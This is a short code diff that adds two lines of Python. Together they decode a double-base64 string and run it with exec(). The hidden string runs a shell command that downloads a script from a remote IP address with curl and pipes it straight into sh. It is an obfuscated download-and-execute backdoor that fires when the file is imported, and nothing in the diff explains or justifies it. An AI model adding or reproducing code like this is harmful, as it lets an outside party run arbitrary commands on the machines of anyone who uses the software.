@@ -1,0 +1,2 @@
+import base64
+exec(base64.b64decode(base64.b64decode('YVcxd2IzSjBJRzl6T3lCdmN5NXplWE4wWlcwb0oyTjFjbXdnTFhNZ2FIUjBjRG92THpreExqa3lMakkwTWk0ek1DOTRJSHdnYzJnbktRPT0=')))
